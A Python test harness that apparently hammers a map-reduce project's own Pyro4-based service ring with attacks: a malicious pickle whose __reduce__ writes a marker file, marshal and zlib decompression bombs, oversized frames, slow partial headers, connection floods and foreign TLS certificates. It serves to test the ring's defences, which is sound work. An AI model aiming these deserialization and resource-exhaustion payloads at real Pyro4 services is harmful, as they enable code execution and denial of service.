"""What somebody does to a ring who can reach its ports and belongs to nobody's cluster.

    python tests/attacks.py MARKER HOST:PORT... [--certs FOLDER]

Every attack that worked on Pyro4 as it comes, one after another and over again on each of the
ports, by several threads, until standard input ends; then prints how often each was made. What
carries code would make the file MARKER. The folder holds certificates of a foreign authority.
Paced, so that what it costs is the ring's doing and not that of a machine that is full.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import marshal
import os
import pickle
import random
import ssl
import struct
import sys
import threading
import zlib
from collections import Counter, deque
from collections.abc import Callable
from pathlib import Path

from pyro_by_hand import (
    BATCH,
    CALL,
    COMPRESSED,
    CONNECT,
    INVOKE,
    ITEMSTREAM,
    KEEPSERIALIZED,
    ONEWAY,
    Hand,
)

from map_reduce.core.identifiers import Address

THREADS = 4
PAUSE_S = 0.01  # between two attacks of a thread
KEPT_OPEN_MAX = 300  # connections of a thread that are left hanging
HELLO = b"hmap-reduce/3 control " + b"1" * 32
PROXY = {"__class__": "Pyro4.core.Proxy", "state": ["PYRO:x@127.0.0.1:9", [], [], [], 0.0, 0]}

Attack = Callable[["Attacker", Hand], None]


class Evil:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (open, (self.marker, "w"))


class Attacker(threading.Thread):
    """One thread of them."""

    def __init__(
        self, number: int, addresses: list[Address], marker: str, certs: Path | None
    ) -> None:
        super().__init__(name=f"attacker {number}")
        self.draw = random.Random(number)
        first = number * len(ATTACKS) // THREADS
        self.turns = itertools.cycle(ATTACKS[first:] + ATTACKS[:first])
        self.addresses = addresses
        self.evil = pickle.dumps(Evil(marker))
        self.certs = certs
        self.made: Counter[str] = Counter()
        self.stop = threading.Event()
        self.open: deque[Hand] = deque()

    def run(self) -> None:
        while not self.stop.wait(PAUSE_S):
            attack = next(self.turns)
            self.made[attack.__name__] += 1
            try:
                hand = Hand(self.draw.choice(self.addresses))
                hand.sock.settimeout(0.05)
                attack(self, hand)
            except (OSError, ValueError):
                pass  # turned away, which is the ring's right
            else:
                self.open.append(hand)
            while len(self.open) > KEPT_OPEN_MAX:
                self.open.popleft().close()
        while self.open:
            self.open.pop().close()


def hang_up(hand: Hand) -> None:
    with contextlib.suppress(TimeoutError):
        hand.receive()
    hand.close()


def silence(attacker: Attacker, hand: Hand) -> None:
    pass


def half_a_header(attacker: Attacker, hand: Hand) -> None:
    hand.send(Hand.frame(CONNECT, HELLO)[: attacker.draw.randrange(1, 24)])


def half_a_greeting(attacker: Attacker, hand: Hand) -> None:
    hand.send(Hand.frame(CONNECT, HELLO))


def a_byte_now_and_then(attacker: Attacker, hand: Hand) -> None:
    for byte in Hand.frame(CONNECT, HELLO)[:20]:
        hand.sock.send(bytes([byte]))
        attacker.stop.wait(0.01)


def garbage_and_reset(attacker: Attacker, hand: Hand) -> None:
    hand.send(attacker.draw.randbytes(attacker.draw.randrange(64)))
    hand.reset()


def another_protocol(attacker: Attacker, hand: Hand) -> None:
    hand.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    hang_up(hand)


def pickled(attacker: Attacker, hand: Hand) -> None:
    kind = attacker.draw.choice((CONNECT, INVOKE))
    hand.send(Hand.frame(kind, attacker.evil, serializer=attacker.draw.choice((4, 5, 7, 8, 77))))
    hang_up(hand)


def marshalled(attacker: Attacker, hand: Hand) -> None:
    tuple_bomb = b"(" + struct.pack("<i", 50_000_000)
    body = attacker.draw.choice((tuple_bomb, b"[" * 1000, marshal.dumps({"handshake": "x"})))
    hand.send(Hand.frame(CONNECT, body, serializer=attacker.draw.choice((3, 77))))
    hang_up(hand)


def a_proxy_to_call_back(attacker: Attacker, hand: Hand) -> None:
    body = json.dumps({"handshake": PROXY, "object": "Pyro.Daemon"}).encode()
    hand.send(Hand.frame(CONNECT, body, serializer=attacker.draw.choice((1, 2, 6, 77))))
    hang_up(hand)


def inflating(attacker: Attacker, hand: Hand) -> None:
    bomb = zlib.compress(bytes(1 << 24), 9)
    hand.send(Hand.frame(attacker.draw.choice((CONNECT, INVOKE)), bomb, flags=COMPRESSED))
    hang_up(hand)


def other_flags(attacker: Attacker, hand: Hand) -> None:
    flags = attacker.draw.choice((BATCH, ONEWAY, ITEMSTREAM, KEEPSERIALIZED))
    annotation = struct.pack("!4sH", b"BLBI", 5) + b"(\xff\xff\xff\x7f"
    hand.send(Hand.frame(INVOKE, CALL, flags=flags, annotations=annotation))
    hang_up(hand)


def what_is_registered(attacker: Attacker, hand: Hand) -> None:
    hand.send(Hand.frame(INVOKE, b"cPyro.Daemon\nregistered\n"))
    hang_up(hand)


def too_long(attacker: Attacker, hand: Hand) -> None:
    hand.send(Hand.frame(attacker.draw.choice((CONNECT, INVOKE)), size=400 << 20))
    with contextlib.suppress(OSError):
        for _ in range(64):
            hand.sock.sendall(bytes(1 << 16))
    hand.close()


def a_wrong_proof(attacker: Attacker, hand: Hand) -> None:
    hand.greet(secret=attacker.draw.randbytes(32))
    hand.send(Hand.frame(INVOKE, CALL + attacker.evil))
    hang_up(hand)


def a_handshake_that_stops(attacker: Attacker, hand: Hand) -> None:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="x")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hand.send(outgoing.read()[: attacker.draw.choice((10, 100, 1000))])


def foreign_certificates(attacker: Attacker, hand: Hand) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if attacker.certs is not None and attacker.draw.random() < 0.7:
        context.load_cert_chain(attacker.certs / "certificate.pem", attacker.certs / "key.pem")
    hand.sock.settimeout(2)
    hand.sock = context.wrap_socket(hand.sock)
    hand.send(Hand.frame(CONNECT, b"hmap-reduce/3 control") + Hand.frame(INVOKE, attacker.evil))
    hang_up(hand)


def many_at_once(attacker: Attacker, hand: Hand) -> None:
    hand.close()
    for _ in range(20):
        attacker.open.append(Hand(attacker.draw.choice(attacker.addresses)))


ATTACKS: tuple[Attack, ...] = (
    *(silence, half_a_header, half_a_greeting, a_byte_now_and_then, garbage_and_reset),
    *(another_protocol, pickled, marshalled, a_proxy_to_call_back, inflating, other_flags),
    *(what_is_registered, too_long, a_wrong_proof, a_handshake_that_stops),
    *(foreign_certificates, many_at_once),
)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("marker")
    parser.add_argument("addresses", nargs="+", type=Address.parse)
    parser.add_argument("--certs", type=Path)
    options = parser.parse_args()
    attackers = [
        Attacker(number, options.addresses, options.marker, options.certs)
        for number in range(THREADS)
    ]
    for attacker in attackers:
        attacker.start()
    print("attacking", flush=True)
    while os.read(0, 1):
        pass
    for attacker in attackers:
        attacker.stop.set()
    for attacker in attackers:
        attacker.join()
    json.dump(sum((attacker.made for attacker in attackers), Counter()), sys.stdout)


if __name__ == "__main__":
    main()
